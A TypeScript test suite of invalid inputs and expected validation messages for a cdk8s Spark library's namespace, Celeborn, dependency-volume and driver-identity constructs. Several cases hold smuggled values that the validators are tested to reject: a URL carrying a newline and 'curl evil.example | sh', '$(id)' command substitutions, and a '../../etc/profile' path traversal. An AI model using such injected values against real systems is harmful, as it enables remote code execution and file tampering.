import { Chart, Size } from 'cdk8s';
import { BadInputCase, celebornCluster, dependencyVolume, driverIdentity, sparkApp, sparkNamespace } from './harness';
import { SparkDriverIdentity, TolerationOperator } from '../../src';

// The platform layer: SparkNamespace, CelebornCluster, DependencyVolume, SparkDriverIdentity.

const JAR = 'https://repo1.maven.org/maven2/org/apache/hadoop/hadoop-aws/3.3.4/hadoop-aws-3.3.4.jar';
const DNS_LABEL = 'must be a DNS-1123 label: at most 63 lower-case letters, digits and "-", starting and ending with a letter or digit';
const NAMESPACE_NAME = 'is not a valid namespace name; use at most 63 lower-case letters, digits and "-", starting and ending with a letter or digit';
const LABEL_KEY_FIX = 'use [prefix/]name: name at most 63 letters, digits, "-", "_" and ".", starting and ending with a letter or digit; prefix a DNS subdomain';

function download(url: string, path = 'jars/a.jar') {
  return { downloads: [{ url, path }] };
}

const NS: BadInputCase[] = [
  {
    construct: 'SparkNamespace',
    name: 'props as a string',
    build: c => sparkNamespace(c, 'team-a' as any),
    error: 'SparkNamespace Team: props "team-a" must be a SparkNamespaceProps (a plain object); got a string',
  },
  {
    construct: 'SparkNamespace',
    name: 'name as a number',
    build: c => sparkNamespace(c, { name: 42 }),
    error: 'SparkNamespace Team: name 42 must be a string; got a number',
  },
  {
    construct: 'SparkNamespace',
    name: 'name with upper case and "_"',
    build: c => sparkNamespace(c, { name: 'Team_A' }),
    error: `SparkNamespace Team: name "Team_A" ${DNS_LABEL}; use a namespace name such as "team-a"`,
  },
  {
    construct: 'SparkNamespace',
    name: 'podSecurity typo',
    build: c => sparkNamespace(c, { podSecurity: 'restrict' }),
    error: 'SparkNamespace Team: podSecurity "restrict" is not a PodSecurityLevel; use one of PodSecurityLevel.RESTRICTED, PodSecurityLevel.BASELINE, PodSecurityLevel.PRIVILEGED (values "restricted", "baseline", "privileged")',
  },
  {
    construct: 'SparkNamespace',
    name: 'quota.pods NaN',
    build: c => sparkNamespace(c, { quota: { pods: NaN } }),
    error: 'SparkNamespace Team: quota.pods NaN must be a finite number; give a number such as 1 or 0.5',
  },
  {
    construct: 'SparkNamespace',
    name: 'quota.pods a fraction',
    build: c => sparkNamespace(c, { quota: { pods: 2.5 } }),
    error: 'SparkNamespace Team: quota.pods 2.5 must be a whole number; use 2 or 3',
  },
  {
    construct: 'SparkNamespace',
    name: 'quota.persistentVolumeClaims beyond int32',
    build: c => sparkNamespace(c, { quota: { persistentVolumeClaims: 2 ** 31 } }),
    error: 'SparkNamespace Team: quota.persistentVolumeClaims 2147483648 must be at most 2147483647; use 2147483647 or less',
  },
  {
    construct: 'SparkNamespace',
    name: 'quota.pods absurd',
    build: c => sparkNamespace(c, { quota: { pods: 1_000_000 } }),
    warning: 'test/Team: quota.pods 1000000 pods is more than 150000 pods; check the figure [absurd-value]',
  },
  {
    construct: 'SparkNamespace',
    name: 'quota.memoryRequests as a string',
    build: c => sparkNamespace(c, { quota: { memoryRequests: '64Gi' } }),
    error: 'SparkNamespace Team: quota.memoryRequests "64Gi" must be a Size; got a string; use Size.mebibytes(n) or Size.gibibytes(n)',
  },
  {
    construct: 'SparkNamespace',
    name: 'quota.cpuRequests as a number',
    build: c => sparkNamespace(c, { quota: { cpuRequests: 20 } }),
    error: 'SparkNamespace Team: quota.cpuRequests 20 must be a CpuCores; got a number; use CpuCores.of(2) or CpuCores.millis(500)',
  },
  {
    construct: 'SparkNamespace',
    name: 'quota.storageByClass key not a storage class',
    build: c => sparkNamespace(c, { quota: { storageByClass: { Fast_SSD: Size.tebibytes(1) } } }),
    error: 'SparkNamespace Team: quota.storageByClass key "Fast_SSD" is not a valid StorageClass name; use at most 253 lower-case letters, digits, "-" and ".", starting and ending with a letter or digit',
  },
  {
    construct: 'SparkNamespace',
    name: 'quota.storageByClass key too long for the quota key',
    build: c => sparkNamespace(c, { quota: { storageByClass: { ['s'.repeat(226)]: Size.tebibytes(1) } } }),
    error: `SparkNamespace Team: quota.storageByClass key "${'s'.repeat(226)}" gives the quota key prefix "${'s'.repeat(40)}..." of 254 characters (at most 253); use a storage class name of at most 225 characters`,
  },
  {
    construct: 'SparkNamespace',
    name: 'quota.extendedResources negative',
    build: c => sparkNamespace(c, { quota: { extendedResources: { 'nvidia.com/gpu': -1 } } }),
    error: 'SparkNamespace Team: quota.extendedResources["nvidia.com/gpu"] -1 must be at least 0; use 0 or more',
  },
  {
    construct: 'SparkNamespace',
    name: 'quota.storage null',
    build: c => sparkNamespace(c, { quota: { storage: null } }),
    error: 'SparkNamespace Team: quota.storage null must be a Size or left out; remove the null',
  },
  {
    construct: 'SparkNamespace',
    name: 'limitRange default request above default limit',
    build: c => sparkNamespace(c, { limitRange: { defaultMemoryRequest: Size.gibibytes(1), defaultMemoryLimit: Size.mebibytes(512) } }),
    error: 'SparkNamespace Team: limitRange.defaultMemoryRequest 1Gi is above limitRange.defaultMemoryLimit 512Mi, and the API server rejects a LimitRange whose default request exceeds its default limit; raise limitRange.defaultMemoryLimit to at least 1024Mi, or lower limitRange.defaultMemoryRequest',
  },
  {
    construct: 'SparkNamespace',
    name: 'limitRange.maxPodMemory absurd',
    build: c => sparkNamespace(c, { limitRange: { maxPodMemory: Size.tebibytes(2048) } }),
    error: 'SparkNamespace Team: limitRange.maxPodMemory 2048Ti is more than 1Pi; give at most 1Pi',
  },
  {
    construct: 'SparkNamespace',
    name: 'tiers value a fraction',
    build: c => sparkNamespace(c, { tiers: [{ name: 'batch', value: 10.5 }] }),
    error: 'SparkNamespace Team: tiers[0].value 10.5 must be a whole number; use 10 or 11',
  },
  {
    construct: 'SparkNamespace',
    name: 'tiers value in the system range',
    build: c => sparkNamespace(c, { tiers: [{ name: 'batch', value: 2_000_000_000 }] }),
    error: 'SparkNamespace Team: tiers[0].value 2000000000 must be at most 1000000000 (higher values are reserved for system classes); use a value between -2147483648 and 1000000000',
  },
  {
    construct: 'SparkNamespace',
    name: 'tiers with a null entry',
    build: c => sparkNamespace(c, { tiers: [null] }),
    error: 'SparkNamespace Team: tiers[0] null is empty; give a PriorityTier or remove the element',
  },
  {
    construct: 'SparkNamespace',
    name: 'tier name that makes no priority class name',
    build: c => sparkNamespace(c, { tiers: [{ name: 'Gold', value: 5 }], defaultTier: 'Gold' }),
    error: 'SparkNamespace Team: tiers[0].name "Gold" gives the priority class name "spark-Gold", which must be a DNS-1123 subdomain: lower-case letters, digits, "-" and ".", starting and ending with a letter or digit; use lower-case letters, digits, "-" and "."',
  },
  {
    construct: 'SparkNamespace',
    name: 'defaultTier not a tier',
    build: c => sparkNamespace(c, { defaultTier: 'gold' }),
    error: 'SparkNamespace Team: defaultTier "gold" is not one of the tiers; use streaming, batch or ad-hoc',
  },
  {
    construct: 'SparkNamespace',
    name: 'driverServiceAccountName not a subdomain',
    build: c => sparkNamespace(c, { driverServiceAccountName: 'Spark_Driver' }),
    error: 'SparkNamespace Team: driverServiceAccountName "Spark_Driver" must be a DNS-1123 subdomain: lower-case letters, digits, "-" and ".", starting and ending with a letter or digit, at most 253 characters (it names the driver ServiceAccount, Role and RoleBinding); use a name such as "spark-driver"',
  },
  {
    construct: 'SparkNamespace',
    name: 'labels key with a blank',
    build: c => sparkNamespace(c, { labels: { 'team name': 'a' } }),
    error: `SparkNamespace Team: labels key "team name" is not a valid label key; ${LABEL_KEY_FIX}`,
  },
  {
    construct: 'SparkNamespace',
    name: 'labels value too long',
    build: c => sparkNamespace(c, { labels: { team: 'x'.repeat(64) } }),
    error: `SparkNamespace Team: labels["team"] "${'x'.repeat(64)}" is not a valid label value; use at most 63 letters, digits, "-", "_" and ".", starting and ending with a letter or digit`,
  },
  {
    construct: 'SparkNamespace',
    name: 'labels set the Pod Security level',
    build: c => sparkNamespace(c, { labels: { 'pod-security.kubernetes.io/enforce': 'baseline' } }),
    error: 'SparkNamespace Team: labels["pod-security.kubernetes.io/enforce"] "baseline" conflicts with "restricted" set by podSecurity; set the level with podSecurity and drop the label',
  },
  {
    construct: 'SparkNamespace',
    name: 'labels and operatorSelectorLabels disagree',
    build: c => sparkNamespace(c, { labels: { 'spark-jobs': 'off' }, operatorSelectorLabels: { 'spark-jobs': 'on' } }),
    error: 'SparkNamespace Team: labels["spark-jobs"] "off" conflicts with operatorSelectorLabels["spark-jobs"] "on"; give the label in one of the two props only',
  },
  {
    construct: 'SparkNamespace',
    name: 'apiServerCidrs empty',
    build: c => sparkNamespace(c, { apiServerCidrs: [] }),
    error: 'SparkNamespace Team: apiServerCidrs [] must list at least one CIDR (an egress rule without destinations allows every address); list the API server endpoints\' CIDRs, or leave apiServerCidrs unset for 0.0.0.0/0',
  },
  {
    construct: 'SparkNamespace',
    name: 'apiServerCidrs octet above 255',
    build: c => sparkNamespace(c, { apiServerCidrs: ['10.0.0.256/32'] }),
    error: 'SparkNamespace Team: apiServerCidrs[0] "10.0.0.256/32" is not a CIDR; use the form 10.0.0.0/16 (IPv4) or fd00::/8 (IPv6)',
  },
  {
    construct: 'SparkNamespace',
    name: 'egress port as a string',
    build: c => sparkNamespace(c, { egressDestinations: [{ name: 's3', cidrs: ['10.0.0.0/8'], ports: ['443'] }] }),
    error: 'SparkNamespace Team: egressDestinations[0].ports[0] "443" must be a number; got a string',
  },
  {
    construct: 'SparkNamespace',
    name: 'egress port 0',
    build: c => sparkNamespace(c, { egressDestinations: [{ name: 's3', cidrs: ['10.0.0.0/8'], ports: [0] }] }),
    error: 'SparkNamespace Team: egressDestinations[0].ports[0] 0 is not a port number; use a whole number from 1 to 65535',
  },
  {
    construct: 'SparkNamespace',
    name: 'egress destination without cidrs',
    build: c => sparkNamespace(c, { egressDestinations: [{ name: 's3', ports: [443] }] }),
    error: 'SparkNamespace Team: egressDestinations[0].cidrs (unset) is required; give a list of strings',
  },
  {
    construct: 'SparkNamespace',
    name: 'egress destination name that makes no NetworkPolicy name',
    build: c => sparkNamespace(c, { egressDestinations: [{ name: 'S3 bucket', cidrs: ['10.0.0.0/8'], ports: [443] }] }),
    error: 'SparkNamespace Team: egressDestinations[0].name "S3 bucket" gives the NetworkPolicy name "allow-egress-S3 bucket", which must be a DNS-1123 subdomain: lower-case letters, digits, "-" and ".", starting and ending with a letter or digit; use lower-case letters, digits, "-" and "."',
  },
  {
    construct: 'SparkNamespace',
    name: 'monitoringNamespace upper case',
    build: c => sparkNamespace(c, { monitoringNamespace: 'Monitoring' }),
    error: `SparkNamespace Team: monitoringNamespace "Monitoring" ${DNS_LABEL}; use the namespace of the metrics scraper, e.g. "monitoring"`,
  },
  {
    construct: 'SparkNamespace',
    name: 'restrictEgress as a string',
    build: c => sparkNamespace(c, { restrictEgress: 'false' }),
    error: 'SparkNamespace Team: restrictEgress "false" must be true or false; got a string; give a boolean, not a string',
  },
  {
    construct: 'SparkNamespace',
    name: 'unknown prop',
    build: c => sparkNamespace(c, { quotas: {} }),
    warning: 'test/Team: quotas is not a prop of SparkNamespaceProps and is ignored; did you mean quota? [unknown-prop]',
  },
  {
    construct: 'SparkNamespace',
    name: 'allowMetricsScraping ports not a list',
    build: c => sparkNamespace(c).allowMetricsScraping('monitoring', 8090 as any),
    error: 'SparkNamespace Team: allowMetricsScraping ports 8090 must be a list of number values; got a number; wrap it in [ ]',
  },
];

const CELEBORN: BadInputCase[] = [
  {
    construct: 'CelebornCluster',
    name: 'storageClassName missing',
    build: c => celebornCluster(c, { storageClassName: undefined }),
    error: 'CelebornCluster Celeborn: storageClassName (unset) is required; give a string',
  },
  {
    construct: 'CelebornCluster',
    name: 'storageClassName with "_"',
    build: c => celebornCluster(c, { storageClassName: 'fast_ssd' }),
    error: 'CelebornCluster Celeborn: storageClassName "fast_ssd" must be a storage class name (lower-case letters, digits, "-" and "."); use the name of an SSD StorageClass of the cluster, e.g. gp3',
  },
  {
    construct: 'CelebornCluster',
    name: 'masterReplicas even',
    build: c => celebornCluster(c, { masterReplicas: 4 }),
    error: 'CelebornCluster Celeborn: masterReplicas 4 must be an odd whole number (a Raft group needs a majority); use 1, 3 or 5',
  },
  {
    construct: 'CelebornCluster',
    name: 'masterReplicas NaN',
    build: c => celebornCluster(c, { masterReplicas: NaN }),
    error: 'CelebornCluster Celeborn: masterReplicas NaN must be a finite number; give a number such as 1 or 0.5',
  },
  {
    construct: 'CelebornCluster',
    name: 'workerReplicas a fraction',
    build: c => celebornCluster(c, { workerReplicas: 2.5 }),
    error: 'CelebornCluster Celeborn: workerReplicas 2.5 must be a whole number of at least 1; use e.g. 3 (each worker runs on its own node)',
  },
  {
    construct: 'CelebornCluster',
    name: 'workerReplicas beyond int32',
    build: c => celebornCluster(c, { workerReplicas: 2 ** 31 }),
    error: 'CelebornCluster Celeborn: workerReplicas 2147483648 must be at most 2147483647; use 2147483647 or less',
  },
  {
    construct: 'CelebornCluster',
    name: 'workerReplicas absurd',
    build: c => celebornCluster(c, { workerReplicas: 50_000 }),
    warning: 'test/Celeborn: workerReplicas 50000 workers is more than 10000 workers; check the figure [absurd-value]',
  },
  {
    construct: 'CelebornCluster',
    name: 'masterReplicas 1',
    build: c => celebornCluster(c, { masterReplicas: 1 }),
    warning: 'test/Celeborn: masterReplicas is 1: the Celeborn cluster stops serving shuffles while its only master restarts; use 3 for high availability [single-celeborn-master]',
  },
  {
    construct: 'CelebornCluster',
    name: 'workerMemory as a string',
    build: c => celebornCluster(c, { workerMemory: '4g' }),
    error: 'CelebornCluster Celeborn: workerMemory "4g" must be a Size; got a string; use Size.mebibytes(n) or Size.gibibytes(n)',
  },
  {
    construct: 'CelebornCluster',
    name: 'workerOffHeapMemory absurd',
    build: c => celebornCluster(c, { workerOffHeapMemory: Size.tebibytes(4096) }),
    error: 'CelebornCluster Celeborn: workerOffHeapMemory 4096Ti is more than 1Pi; give at most 1Pi',
  },
  {
    construct: 'CelebornCluster',
    name: 'workerCpu as a number',
    build: c => celebornCluster(c, { workerCpu: 2 }),
    error: 'CelebornCluster Celeborn: workerCpu 2 must be a CpuCores; got a number; use CpuCores.of(2) or CpuCores.millis(500)',
  },
  {
    construct: 'CelebornCluster',
    name: 'name too long for the StatefulSet',
    build: c => celebornCluster(c, { name: `shuffle-${'x'.repeat(40)}` }),
    error: `CelebornCluster Celeborn: name "shuffle-${'x'.repeat(40)}" gives the StatefulSet name "shuffle-${'x'.repeat(40)}-worker" of 55 characters, and a StatefulSet name is at most 52 (its pods' controller-revision-hash label adds 11); use a name of at most 45 characters, e.g. "celeborn"`,
  },
  {
    construct: 'CelebornCluster',
    name: 'namespace with upper case',
    build: c => celebornCluster(c, { namespace: 'Shuffle' }),
    error: `CelebornCluster Celeborn: namespace "Shuffle" ${NAMESPACE_NAME}`,
  },
  {
    construct: 'CelebornCluster',
    name: 'chart namespace that would break the master script',
    build: c => celebornCluster(new Chart(c, 'Inner', { namespace: 'a$(id)' })),
    error: `CelebornCluster Celeborn: namespace "a$(id)" (the chart's namespace) ${DNS_LABEL}; run the cluster in a valid namespace, e.g. "shuffle"`,
  },
  {
    construct: 'CelebornCluster',
    name: 'clusterDomain with a command substitution',
    build: c => celebornCluster(c, { clusterDomain: 'cluster.local$(id)' }),
    error: 'CelebornCluster Celeborn: clusterDomain "cluster.local$(id)" must be a DNS domain; use the cluster\'s DNS domain, e.g. cluster.local',
  },
  {
    construct: 'CelebornCluster',
    name: 'sparkNamespace as a name',
    build: c => celebornCluster(c, { sparkNamespace: 'team' }),
    error: 'CelebornCluster Celeborn: sparkNamespace "team" must be an ISparkNamespace; got a string; pass a SparkNamespace (or your own ISparkNamespace)',
  },
  {
    construct: 'CelebornCluster',
    name: 'configuration key without celeborn.',
    build: c => celebornCluster(c, { configuration: { 'spark.celeborn.client.push.replicate.enabled': 'true' } }),
    error: 'CelebornCluster Celeborn: configuration key "spark.celeborn.client.push.replicate.enabled" must start with "celeborn."; give Celeborn settings only (Spark-side settings go in the app\'s sparkConf)',
  },
  {
    construct: 'CelebornCluster',
    name: 'configuration value an object',
    build: c => celebornCluster(c, { configuration: { 'celeborn.worker.flusher.threads': { n: 8 } } }),
    error: 'CelebornCluster Celeborn: configuration["celeborn.worker.flusher.threads"] {"n":8} must be a string, number or boolean; got an object; give the value as Celeborn reads it, e.g. "8" or "64k"',
  },
  {
    construct: 'CelebornCluster',
    name: 'configuration key the construct sets',
    build: c => celebornCluster(c, { configuration: { 'celeborn.master.endpoints': 'localhost:9097' } }),
    error: 'CelebornCluster Celeborn: configuration["celeborn.master.endpoints"] "localhost:9097" conflicts with "celeborn-master-0.celeborn-master-svc.default.svc.cluster.local:9097,celeborn-master-1.celeborn-master-svc.default.svc.cluster.local:9097,celeborn-master-2.celeborn-master-svc.default.svc.cluster.local:9097" set by the construct; remove the key and use the props instead',
  },
  {
    construct: 'CelebornCluster',
    name: 'toleration operator typo',
    build: c => celebornCluster(c, { tolerations: [{ key: 'shuffle', operator: 'Exist' }] }),
    error: 'CelebornCluster Celeborn: tolerations[0].operator "Exist" is not a TolerationOperator; use one of TolerationOperator.EQUAL, TolerationOperator.EXISTS (values "Equal", "Exists")',
  },
  {
    construct: 'CelebornCluster',
    name: 'toleration EXISTS with a value',
    build: c => celebornCluster(c, { tolerations: [{ key: 'shuffle', operator: TolerationOperator.EXISTS, value: 'yes' }] }),
    error: 'CelebornCluster Celeborn: tolerations[0].value "yes" is given with operator EXISTS, which takes no value; drop the value, or use TolerationOperator.EQUAL',
  },
  {
    construct: 'CelebornCluster',
    name: 'nodeSelector value with a blank',
    build: c => celebornCluster(c, { nodeSelector: { pool: 'fast disks' } }),
    error: 'CelebornCluster Celeborn: nodeSelector["pool"] "fast disks" is not a valid label value; use at most 63 letters, digits, "-", "_" and ".", starting and ending with a letter or digit',
  },
  {
    construct: 'CelebornCluster',
    name: 'image latest',
    build: c => celebornCluster(c, { image: 'apache/celeborn:latest' }),
    error: 'CelebornCluster Celeborn: image "apache/celeborn:latest" must be pinned to a tag or digest (not latest); use e.g. apache/celeborn:0.6.1',
  },
];

const DEPS: BadInputCase[] = [
  {
    construct: 'DependencyVolume',
    name: 'downloads missing',
    build: c => dependencyVolume(c, { downloads: undefined }),
    error: 'DependencyVolume Deps: downloads (unset) is required; give a list of DependencyDownloads',
  },
  {
    construct: 'DependencyVolume',
    name: 'downloads empty',
    build: c => dependencyVolume(c, { downloads: [] }),
    error: 'DependencyVolume Deps: downloads [] must list at least one file; list the files to download as { url, path } entries',
  },
  {
    construct: 'DependencyVolume',
    name: 'downloads a single object',
    build: c => dependencyVolume(c, { downloads: { url: JAR, path: 'a.jar' } }),
    error: `DependencyVolume Deps: downloads {"url":"${JAR}","path":"a.jar"} must be a list of DependencyDownload values; got an object; wrap it in [ ]`,
  },
  {
    construct: 'DependencyVolume',
    name: 'download url over http',
    build: c => dependencyVolume(c, download('http://repo1.maven.org/maven2/a.jar')),
    error: 'DependencyVolume Deps: downloads[0].url "http://repo1.maven.org/maven2/a.jar" must be an https:// URL; use e.g. https://repo1.maven.org/maven2/org/apache/hadoop/hadoop-aws/3.3.4/hadoop-aws-3.3.4.jar',
  },
  {
    construct: 'DependencyVolume',
    name: 'download url with a newline and a command',
    build: c => dependencyVolume(c, download(`${JAR}\ncurl evil.example | sh`)),
    error: `DependencyVolume Deps: downloads[0].url ${JSON.stringify(`${JAR}\ncurl evil.example | sh`)} contains whitespace or a control character; percent-encode it (a space is %20)`,
  },
  {
    construct: 'DependencyVolume',
    name: 'download url with port 0',
    build: c => dependencyVolume(c, download('https://repo.example.com:0/a.jar')),
    error: 'DependencyVolume Deps: downloads[0].url "https://repo.example.com:0/a.jar" has port 0; use a port from 1 to 65535, or none for 443',
  },
  {
    construct: 'DependencyVolume',
    name: 'download url with a password',
    build: c => dependencyVolume(c, download('https://ci:s3cret@repo.example.com/a.jar')),
    warning: 'test/Deps: downloads[0].url has a user name or password in the URL, which ends up in plain text in the Job; download from a location that needs no credentials [credential-in-url]',
  },
  {
    construct: 'DependencyVolume',
    name: 'download path escaping the volume',
    build: c => dependencyVolume(c, download(JAR, 'jars/../../etc/profile')),
    error: 'DependencyVolume Deps: downloads[0].path "jars/../../etc/profile" must be a relative path of letters, digits, ".", "_" and "-" (no "." or ".." elements); use e.g. jars/hadoop-aws-3.3.4.jar',
  },
  {
    construct: 'DependencyVolume',
    name: 'download path with a command substitution',
    build: c => dependencyVolume(c, download(JAR, 'jars/$(id).jar')),
    error: 'DependencyVolume Deps: downloads[0].path "jars/$(id).jar" must be a relative path of letters, digits, ".", "_" and "-" (no "." or ".." elements); use e.g. jars/hadoop-aws-3.3.4.jar',
  },
  {
    construct: 'DependencyVolume',
    name: 'download path twice',
    build: c => dependencyVolume(c, { downloads: [{ url: JAR, path: 'a.jar' }, { url: `${JAR}?v=2`, path: 'a.jar' }] }),
    error: 'DependencyVolume Deps: downloads[1].path "a.jar" is listed twice (also downloads[0].path); download each file once, or give it another path',
  },
  {
    construct: 'DependencyVolume',
    name: 'download without path',
    build: c => dependencyVolume(c, { downloads: [{ url: JAR }] }),
    error: 'DependencyVolume Deps: downloads[0].path (unset) is required; give a string',
  },
  {
    construct: 'DependencyVolume',
    name: 'name too long for the fill Job',
    build: c => dependencyVolume(c, { name: `deps-${'x'.repeat(54)}` }),
    error: `DependencyVolume Deps: name "deps-${'x'.repeat(54)}" gives the fill Job the name "deps-${'x'.repeat(54)}-fill" of 64 characters, and a Job name is at most 63 (Kubernetes puts it in a label of the Job's pods); use a name of at most 58 characters`,
  },
  {
    construct: 'DependencyVolume',
    name: 'name with "_"',
    build: c => dependencyVolume(c, { name: 'spark_deps' }),
    error: `DependencyVolume Deps: name "spark_deps" ${DNS_LABEL} (it names the claim and the Job); use a name such as "spark-deps"`,
  },
  {
    construct: 'DependencyVolume',
    name: 'storageClassName upper case',
    build: c => dependencyVolume(c, { storageClassName: 'Standard' }),
    error: 'DependencyVolume Deps: storageClassName "Standard" is not a valid StorageClass name; use at most 253 lower-case letters, digits, "-" and ".", starting and ending with a letter or digit',
  },
  {
    construct: 'DependencyVolume',
    name: 'accessMode abbreviation',
    build: c => dependencyVolume(c, { accessMode: 'RWX' }),
    error: 'DependencyVolume Deps: accessMode "RWX" is not a DependencyAccessMode; use one of DependencyAccessMode.READ_WRITE_MANY, DependencyAccessMode.READ_WRITE_ONCE (values "ReadWriteMany", "ReadWriteOnce")',
  },
  {
    construct: 'DependencyVolume',
    name: 'size as a string',
    build: c => dependencyVolume(c, { size: '1Gi' }),
    error: 'DependencyVolume Deps: size "1Gi" must be a Size; got a string; use Size.mebibytes(n) or Size.gibibytes(n)',
  },
  {
    construct: 'DependencyVolume',
    name: 'size not whole MiB',
    build: c => dependencyVolume(c, { size: Size.kibibytes(1500) }),
    error: 'DependencyVolume Deps: size 1500Ki is not a whole number of MiB; round it to whole MiB, e.g. Size.mebibytes(1)',
  },
  {
    construct: 'DependencyVolume',
    name: 'namespace with a blank',
    build: c => dependencyVolume(c, { namespace: 'team a' }),
    error: `DependencyVolume Deps: namespace "team a" ${NAMESPACE_NAME}`,
  },
  {
    construct: 'DependencyVolume',
    name: 'mounted into an app of another namespace',
    build: c => dependencyVolume(c, { namespace: 'team' }).mountInto(sparkApp(c, { namespace: 'other' })),
    error: 'DependencyVolume Deps: namespace "team" differs from namespace "other" of app etl, and a pod can only mount claims of its own namespace; create the DependencyVolume in namespace "other", or run the app in "team"',
  },
  {
    construct: 'DependencyVolume',
    name: 'mounted at a relative path',
    build: c => dependencyVolume(c).mountInto(sparkApp(c), 'deps'),
    error: 'DependencyVolume Deps: mountInto path "deps" must be an absolute path without ":" or ".." elements; e.g. /opt/spark/conf',
  },
  {
    construct: 'DependencyVolume',
    name: 'mounted into something that is not an app',
    build: c => dependencyVolume(c).mountInto('etl' as any),
    error: 'DependencyVolume Deps: mountInto app "etl" must be an ISparkApp; got a string; pass a SparkApp (or another ISparkApp)',
  },
];

const IDENTITY: BadInputCase[] = [
  {
    construct: 'SparkDriverIdentity',
    name: 'namespace missing',
    build: c => driverIdentity(c, { namespace: undefined }),
    error: 'SparkDriverIdentity Identity: namespace (unset) is required; give a string',
  },
  {
    construct: 'SparkDriverIdentity',
    name: 'namespace with upper case',
    build: c => driverIdentity(c, { namespace: 'Team' }),
    error: `SparkDriverIdentity Identity: namespace "Team" ${NAMESPACE_NAME}`,
  },
  {
    construct: 'SparkDriverIdentity',
    name: 'name with "_"',
    build: c => driverIdentity(c, { name: 'spark_driver' }),
    error: 'SparkDriverIdentity Identity: name "spark_driver" must be a DNS-1123 subdomain: lower-case letters, digits, "-" and ".", starting and ending with a letter or digit, at most 253 characters (it names the ServiceAccount, Role and RoleBinding); use a name such as "spark-driver"',
  },
  {
    construct: 'SparkDriverIdentity',
    name: 'name of 254 characters',
    build: c => driverIdentity(c, { name: `${'a'.repeat(126)}.${'b'.repeat(127)}` }),
    error: `SparkDriverIdentity Identity: name "${'a'.repeat(126)}.${'b'.repeat(127)}" must be a DNS-1123 subdomain: lower-case letters, digits, "-" and ".", starting and ending with a letter or digit, at most 253 characters (it names the ServiceAccount, Role and RoleBinding); use a name such as "spark-driver"`,
  },
  {
    construct: 'SparkDriverIdentity',
    name: 'labels override managed-by',
    build: c => driverIdentity(c, { labels: { 'app.kubernetes.io/managed-by': 'helm' } }),
    error: 'SparkDriverIdentity Identity: labels["app.kubernetes.io/managed-by"] "helm" conflicts with "cdk8s-spark" set by the library (it selects the library\'s objects); drop the label, or use another key',
  },
  {
    construct: 'SparkDriverIdentity',
    name: 'labels key with two slashes',
    build: c => driverIdentity(c, { labels: { 'example.com/team/name': 'a' } }),
    error: `SparkDriverIdentity Identity: labels key "example.com/team/name" is not a valid label key; ${LABEL_KEY_FIX}`,
  },
  {
    construct: 'SparkDriverIdentity',
    name: 'onDemandClaims as a string',
    build: c => driverIdentity(c, { onDemandClaims: 'yes' }),
    error: 'SparkDriverIdentity Identity: onDemandClaims "yes" must be true or false; got a string; give a boolean, not a string',
  },
  {
    construct: 'SparkDriverIdentity',
    name: 'props null',
    build: c => new SparkDriverIdentity(c, 'Identity', null as any),
    error: 'SparkDriverIdentity Identity: props null are required (namespace); pass a SparkDriverIdentityProps object',
  },
  {
    construct: 'SparkDriverIdentity',
    name: 'addUser with a name',
    build: c => driverIdentity(c).addUser('etl' as any),
    error: 'SparkDriverIdentity Identity: addUser app "etl" must be an ISparkApp; got a string; pass a SparkApp (or another ISparkApp)',
  },
];

export const CASES: BadInputCase[] = [...NS, ...CELEBORN, ...DEPS, ...IDENTITY];
